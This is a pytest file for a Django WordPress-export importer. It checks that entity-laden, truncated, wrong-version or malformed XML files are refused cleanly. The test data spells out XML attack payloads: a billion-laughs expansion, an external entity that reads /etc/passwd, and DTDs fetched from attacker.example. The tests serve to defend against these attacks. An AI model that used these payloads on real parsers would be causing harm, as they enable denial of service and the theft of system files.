"""Hostile or broken exports are refused in plain words, before anything is written."""

import os
import subprocess
import sys
from pathlib import Path

import pytest
from django.core.management.base import CommandError

from news.models import ArticlePage, Author, WordPressImportRecord
from tests.news.wordpress_exports import FIXTURES, export, item, run_import, write

pytestmark = pytest.mark.django_db
ROOT = Path(__file__).resolve().parents[2]

HEADER = '<?xml version="1.0" encoding="UTF-8" ?>\n'
BILLION_LAUGHS = (
    HEADER
    + """<!DOCTYPE rss [
<!ENTITY lol "lol">
<!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
<!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
"""
)
EXTERNAL_ENTITY = HEADER + '<!DOCTYPE rss [<!ENTITY secret SYSTEM "file:///etc/passwd">]>\n'
PARAMETER_ENTITY = (
    HEADER + '<!DOCTYPE rss [<!ENTITY % remote SYSTEM "http://attacker.example/x.dtd"> %remote;]>\n'
)


def hostile(prologue, title):
    """A valid-looking export whose first post's title uses the declared entity."""
    return prologue + export(item(1, title="placeholder")).split("\n", 1)[1].replace(
        "<![CDATA[placeholder]]>", title
    )


@pytest.mark.parametrize(
    ("prologue", "title"),
    [
        (BILLION_LAUGHS, "&lol4;"),
        (EXTERNAL_ENTITY, "&secret;"),
        (PARAMETER_ENTITY, "Harmless"),
        (HEADER + '<!DOCTYPE rss SYSTEM "http://attacker.example/wxr.dtd">\n', "Harmless"),
    ],
    ids=["entity-expansion", "external-entity", "parameter-entity", "external-dtd"],
)
def test_entities_and_document_types_are_refused(home, tmp_path, prologue, title):
    path = write(tmp_path, hostile(prologue, title))
    with pytest.raises(CommandError, match=r"document type declaration \(DTD\) at line 2") as error:
        run_import(path)
    assert "root:" not in str(error.value)
    assert not ArticlePage.objects.exists()
    assert not WordPressImportRecord.objects.exists()


def test_a_truncated_file_is_refused_naming_the_line(home, tmp_path):
    text = export(item(1, title="First"), item(2, title="Second"))
    path = write(tmp_path, text[: text.index("Second") + 3])
    with pytest.raises(CommandError, match="line 8") as error:
        run_import(path)
    assert "may be truncated" in str(error.value)
    # The first post was complete, but a damaged file is refused whole.
    assert not ArticlePage.objects.exists()
    assert not Author.objects.exists()


def test_not_a_wordpress_export(home, tmp_path):
    path = write(tmp_path, HEADER + "<rss><channel><title>A feed</title></channel></rss>")
    with pytest.raises(CommandError, match="does not look like a WordPress export"):
        run_import(path)


def test_an_unknown_wxr_version_is_refused(home, tmp_path):
    path = write(tmp_path, export(item(1), version="2.0"))
    with pytest.raises(CommandError, match="WXR version 2.0; this importer reads WXR 1.0 to 1.2"):
        run_import(path)


def test_a_missing_file(home, tmp_path):
    with pytest.raises(CommandError, match="Cannot read"):
        run_import(tmp_path / "nothing.xml")


@pytest.mark.parametrize("name", ["malformed-simple.xml", "crazy-cdata.xml"])
def test_the_command_exits_non_zero_without_a_traceback(name):
    result = subprocess.run(
        [sys.executable, "manage.py", "import_wordpress", str(FIXTURES / name)],
        cwd=ROOT,
        env={**os.environ, "DJANGO_SETTINGS_MODULE": "portal.settings.test"},
        capture_output=True,
        text=True,
        check=False,
    )
    assert result.returncode == 1
    assert "Traceback" not in result.stderr
    assert "is not well-formed XML" in result.stderr
    assert "at line" in result.stderr
